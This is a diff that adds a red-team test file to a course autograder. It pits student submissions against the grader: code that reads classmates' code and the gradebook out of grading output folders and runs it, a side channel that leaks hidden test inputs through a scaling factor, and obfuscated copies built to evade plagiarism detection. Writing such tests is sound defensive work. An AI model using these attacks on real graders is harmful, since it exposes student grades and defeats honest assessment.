@@ -1,0 +1,388 @@
+"""Red team, round 5: new attacks of issue 19's classes, written apart from its fixes.
+
+A student who reads the toolkit's source and wants points without computing the right answers,
+or wants to see hidden inputs. Each test grades the attack as it would meet grading (`grade
+--official`'s function, or `course grade-all` run as a command) and asserts the SAFE outcome.
+None of these repeats an attack of tests/course/test_redteam_*.py or tests/toolkit/test_redteam*.
+
+| # | test | class | before the fixes (branch redteam, 2026-12-07) |
+|---|---|---|---|
+| 1 | grade_all_output [similarity-page] | a window the uid child can reach | mallory's vec.py reads |
+|   |   the last run's similarity page (OUT/similarity/vec/pairs/*.html, 0644 in a 0755 folder), |
+|   |   runs alice's code from it: 10/10 computing nothing (0 when she wrote no code) |
+| 2 | grade_all_output [gradebook] | same | mallory's code reads OUT/gradebook.csv: every |
+|   |   classmate's grade (add scores 3 only when it could) |
+| 3 | factor_channel (bubblewrap, uid) | hidden input in a student copy | a right `add` times |
+|   |   1 + code/1000: "times 1449/1000" in the student copy reads back x[0, 0] of the hidden test |
+|   |   to 2 decimals (the least-squares factor is shown with any denominator up to 1000) |
+| 4 | packed_as_numbers [write-and-import] | similarity evasion | a full copy as a list of byte |
+|   |   values, written to the work folder and imported: grades like the original, not listed |
+| 5 | packed_as_numbers [exec-by-name] | similarity evasion | the same run through |
+|   |   getattr(sys.modules["bu" + "iltins"], "ex" + "ec"): grades like the original, not listed |
+| 6 | packed_as_numbers [comments] | similarity evasion | the copy in comments, read back from |
+|   |   __file__ and run through print.__self__: comments are dropped before comparing: not listed |
+
+Attacks 1-2 run at the unprivileged-uid level only (bubblewrap binds nothing of the output
+folder); 3 at both levels; 4-6 are about the report (the copy is graded at the strongest level).
+"""
+
+from __future__ import annotations
+
+import csv
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+from fractions import Fraction
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from grader.config import load_course
+from grader.disclosure import student_copy
+from grader.grading import grade
+from grader.sandbox import policy
+from grader.sandbox.client import Channel
+
+ROOT = Path(__file__).resolve().parents[2]
+FIXTURE = ROOT / "tests" / "toolkit" / "files" / "course"  # vec: add 3, scale 3, norm 2 + 2
+SIMILAR = ROOT / "tests" / "toolkit" / "files" / "similarity" / "conv"
+COURSE_COMMAND = Path(sys.executable).with_name("course")
+
+
+def level_problem(level: str) -> str | None:
+    """Why the isolation `level` cannot run here, or None."""
+    if level == "bubblewrap":
+        return None if policy.bubblewrap_works() else "bubblewrap does not work here"
+    if sys.platform != "linux" or os.geteuid() != 0:
+        return "the unprivileged-uid level needs root"
+    blocked = [path for path in policy.interpreter_paths() if not policy.reachable_by_others(path)]
+    return f"{blocked[0]} is not readable by other users" if blocked else None
+
+
+def require(level: str) -> None:
+    problem = level_problem(level)
+    if problem and os.environ.get("GRADER_SECURITY_STRICT"):
+        pytest.fail(problem)
+    if problem:
+        pytest.skip(problem)
+
+
+@pytest.fixture
+def no_audit_hook(monkeypatch):
+    """The child's audit hook is defence in depth, never a boundary: in-process grading runs
+    without it (the command-line attacks below keep it on, and do not need it off)."""
+    monkeypatch.setattr(Channel, "audit_hook", False)
+
+
+@pytest.fixture
+def open_folder():
+    """A folder other users may pass through (0755), under the temporary folder: where a server's
+    course lives (/srv/course), unlike pytest's private tmp_path."""
+    folder = Path(tempfile.mkdtemp(prefix="round5-"))
+    os.chmod(folder, 0o755)
+    yield folder
+    shutil.rmtree(folder, ignore_errors=True)
+
+
+# ---------------------------------------------------------------------------------------------
+# 1, 2. grade-all's output folder, read by a later student's child at the uid level.
+
+THIEF_HEAD = '''"""vec, done my way."""
+
+import glob
+import html
+import os
+import re
+
+
+def _outputs():
+    """The output folders of the grade-all runs on this machine (their command lines are public)."""
+    found = []
+    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
+        try:
+            with open(cmdline, "rb") as handle:
+                words = handle.read().decode(errors="replace").split("\\0")
+        except OSError:
+            continue
+        if "grade-all" in words and "--out" in words:
+            found.append(words[words.index("--out") + 1])
+    return found
+'''
+SIMILARITY_THIEF = (
+    THIEF_HEAD
+    + '''
+
+def _borrowed():
+    """A classmate's vec.py, from a side of a similarity page of an earlier run."""
+    for out in _outputs():
+        pattern = os.path.join(out, "similarity", "vec", "**", "*.html")
+        for page in sorted(glob.glob(pattern, recursive=True)):
+            try:
+                with open(page, encoding="utf-8") as handle:
+                    text = handle.read()
+            except OSError:
+                continue
+            for block in re.findall(r"<pre>(.*?)</pre>", text, re.S):
+                code = html.unescape(re.sub(r"<[^>]+>", "", block))
+                if "def norm" in code and "_borrowed" not in code:
+                    return code
+    return None
+
+
+def _solve(name, *args):
+    code = _borrowed()
+    if code is None:
+        raise NotImplementedError(name)
+    space = {}
+    getattr(print.__self__, "ex" + "ec")(code, space)
+    return space[name](*args)
+
+
+def add(x, y):
+    return _solve("add", x, y)
+
+
+def scale(x, k=2.0):
+    return _solve("scale", x, k)
+
+
+def norm(x):
+    return _solve("norm", x)
+'''
+)
+GRADEBOOK_THIEF = (
+    THIEF_HEAD
+    + """
+
+def _read_the_gradebook():
+    for out in _outputs():
+        try:
+            with open(os.path.join(out, "gradebook.csv"), encoding="utf-8") as handle:
+                return "alice," in handle.read()
+        except OSError:
+            pass
+    return False
+
+
+def add(x, y):
+    if _read_the_gradebook():  # the grades of the whole class, names and all
+        return x + y
+    raise NotImplementedError("add")
+
+
+def scale(x, k=2.0):
+    raise NotImplementedError("scale")
+
+
+def norm(x):
+    raise NotImplementedError("norm")
+"""
+)
+
+
+def server_course(folder: Path) -> Path:
+    """The fixture course released and installed as on a grading server: the course folder
+    passable (0755), its course.yml, suites and solutions private, graded at the uid level."""
+    root = folder / "course"
+    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("__pycache__"))
+    text = (root / "course.yml").read_text(encoding="utf-8")
+    (root / "course.yml").write_text(text.replace("isolation: auto", "isolation: uid"), encoding="utf-8")
+    run_course(root, "release")
+    os.chmod(root, 0o755)
+    for private in ("tests", "solutions"):
+        os.chmod(root / private, 0o700)
+    os.chmod(root / "course.yml", 0o600)
+    return root
+
+
+def run_course(root: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
+    """`course ARGUMENTS` run in the course folder, as the instructor types it."""
+    environment = {key: value for key, value in os.environ.items() if key != "CI"}
+    done = subprocess.run(
+        [str(COURSE_COMMAND), *arguments], cwd=root, capture_output=True, text=True, env=environment
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    return done
+
+
+def gradebook(out: Path) -> dict[str, float]:
+    with (out / "gradebook.csv").open(encoding="utf-8") as handle:
+        return {row["student"]: float(row["vec"]) for row in csv.DictReader(handle)}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("thief", "honest"),
+    [(SIMILARITY_THIEF, 0.0), (GRADEBOOK_THIEF, 0.0)],
+    ids=["similarity-page", "gradebook"],
+)
+@pytest.mark.xfail(
+    strict=True,
+    reason="attack succeeds: OUT (similarity pages, gradebook.csv) is readable by other users, "
+    "and a later child at the uid level reads it",
+)
+def test_grade_all_output_is_not_readable_by_a_later_child(open_folder, thief, honest):
+    """Run 1 grades alice, bob (alice's code, reworded) and mallory with --similarity; mallory
+    resubmits the same attack; run 2 grades her again. Her child (another uid) must read nothing
+    of OUT: she scores what her code earns without it (0)."""
+    require("uid")
+    root = server_course(open_folder)
+    klass = open_folder / "class"
+    reference = (FIXTURE / "solutions" / "vec.py").read_text(encoding="utf-8")
+    for student, text in {
+        "alice": reference,
+        "bob": reference.replace("x * k", "k * x"),
+        "mallory": thief,
+    }.items():
+        (klass / student).mkdir(parents=True)
+        (klass / student / "vec.py").write_text(text, encoding="utf-8")
+    os.chmod(klass, 0o700)
+    out = root / "grades"
+    run_course(root, "grade-all", str(klass), "--assignment", "vec", "--out", str(out), "--similarity")
+    assert gradebook(out) == {"alice": 10.0, "bob": 10.0, "mallory": honest}
+    with (klass / "mallory" / "vec.py").open("a", encoding="utf-8") as handle:
+        handle.write("\n# resubmitted\n")
+    run_course(root, "grade-all", str(klass), "--assignment", "vec", "--out", str(out))
+    assert gradebook(out)["mallory"] == honest
+
+
+# ---------------------------------------------------------------------------------------------
+# 3. The least-squares factor of a hidden test's "scale" finding as a channel for hidden inputs.
+
+FACTOR_CHANNEL = '''"""vec: right, and times a factor that carries a hidden input."""
+
+import numpy as np
+
+
+def add(x, y):
+    code = int(round(float(np.asarray(x).flat[0]) * 100)) + 500  # x[0, 0] to 2 decimals
+    return (x + y) * (1 + code / 1000)
+
+
+def scale(x, k=2.0):
+    return x * k
+
+
+def norm(x):
+    return float(np.sqrt(np.sum(x * x)))
+'''
+FACTOR = re.compile(r"times (-?\d+(?:\.\d+)?(?:/\d+)?)")
+SEED = re.compile(r"\(seed (\d+)\)")
+
+
+def private_fixture(folder: Path, level: str) -> Path:
+    folder.mkdir(parents=True)
+    os.chmod(folder, 0o700)
+    root = folder / "course"
+    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("__pycache__"))
+    text = (root / "course.yml").read_text(encoding="utf-8")
+    (root / "course.yml").write_text(text.replace("isolation: auto", f"isolation: {level}"), encoding="utf-8")
+    return root
+
+
+@pytest.mark.parametrize("level", ["bubblewrap", "uid"])
+@pytest.mark.xfail(
+    strict=True,
+    reason="attack succeeds: the least-squares factor is shown with a denominator up to 1000, "
+    "carrying x[0, 0] to 2 decimals",
+)
+def test_a_scale_factor_does_not_carry_a_hidden_input(level, tmp_path, no_audit_hook):
+    """add is right but scaled by 1 + (100 x[0, 0] + 500) / 1000. The student copy of the hidden
+    test must not let the student read x[0, 0] (recomputed here from the test's seed)."""
+    require(level)
+    root = private_fixture(tmp_path / "private", level)
+    submission = tmp_path / "work" / "vec.py"
+    submission.parent.mkdir()
+    submission.write_text(FACTOR_CHANNEL, encoding="utf-8")
+    report = grade(root, load_course(root / "course.yml").assignment("vec"), submission, official=True)
+    staff = next(t for t in report.tests if t.name == "test_add")
+    x, _ = np.random.default_rng(int(SEED.search(staff.output)[1])).standard_normal((2, 3, 4))
+    shown = next(t for t in student_copy(report).tests if t.name == "test_add")
+    read = [(float(Fraction(f)) - 1) * 1000 - 500 for f in FACTOR.findall(shown.output)]
+    assert not [value for value in read if abs(value / 100 - x[0, 0]) < 0.006], shown.output
+
+
+# ---------------------------------------------------------------------------------------------
+# 4-6. A whole copy packed as numbers or comments: no decoder, no long string, no exec by name.
+
+WRITE_AND_IMPORT = '''"""My convolution."""
+import os
+import sys
+
+_CODE = {codes!r}
+_HERE = os.getcwd()
+with open(os.path.join(_HERE, "_conv_impl.py"), "w", encoding="utf-8") as _handle:
+    _handle.write(bytes(_CODE).decode())
+sys.path.insert(0, _HERE)
+from _conv_impl import *  # noqa: E402,F403
+'''
+EXEC_BY_NAME = '''"""My convolution."""
+import sys
+
+_CODE = {codes!r}
+_run = getattr(sys.modules["bu" + "iltins"], "ex" + "ec")
+_run(bytes(_CODE).decode(), globals())
+'''
+COMMENTS = '''"""My convolution."""
+
+with open(__file__, encoding="utf-8") as _handle:
+    _mine = [line[2:] for line in _handle if line.startswith("# ")]
+getattr(print.__self__, "ex" + "ec")("".join(_mine), globals())
+
+{commented}
+'''
+
+
+def packed(wrapper: str, original: str) -> str:
+    commented = "".join(f"# {line}\n" for line in original.splitlines())
+    return wrapper.format(codes=list(original.encode()), commented=commented)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "wrapper",
+    [WRITE_AND_IMPORT, EXEC_BY_NAME, COMMENTS],
+    ids=["write-and-import", "exec-by-name", "comments"],
+)
+@pytest.mark.xfail(
+    strict=True,
+    reason="attack succeeds: no decoder, long string or exec by its name: not listed, not flagged",
+)
+def test_a_copy_packed_as_numbers_or_comments_is_flagged(wrapper, course, tmp_path):
+    from grader.similarity.run import similarity_report
+
+    original = (SIMILAR / "loops.py").read_text(encoding="utf-8")
+    files = {
+        "original": original,
+        "copier": packed(wrapper, original),
+        "strided": (SIMILAR / "strided.py").read_text(encoding="utf-8"),
+        "shifts": (SIMILAR / "shifts.py").read_text(encoding="utf-8"),
+    }
+    klass = tmp_path / "class"
+    for student, text in files.items():
+        (klass / student).mkdir(parents=True)
+        (klass / student / "conv.py").write_text(text, encoding="utf-8")
+    assignment = load_course(course / "course.yml").assignment("conv")
+    scores = {
+        who: grade(
+            course, assignment, klass / who / "conv.py", official=True, only_functions={"conv_output_size"}
+        ).score
+        for who in ("original", "copier")
+    }
+    assert scores["copier"] == scores["original"] > 0, scores  # a working copy
+    out = tmp_path / "similarity"
+    similarity_report(ROOT, load_course(ROOT / "course.yml"), "conv", klass, out, workers=1)
+    with (out / "pairs.csv").open(encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    flagged = [
+        row
+        for row in rows
+        if {row["student_a"], row["student_b"]} == {"original", "copier"} and row.get("flagged") == "1"
+    ]
+    with (out / "problems.csv").open(encoding="utf-8") as handle:
+        problems = [row for row in csv.DictReader(handle) if "copier" in row.values()]
+    assert flagged or problems, rows[:3]
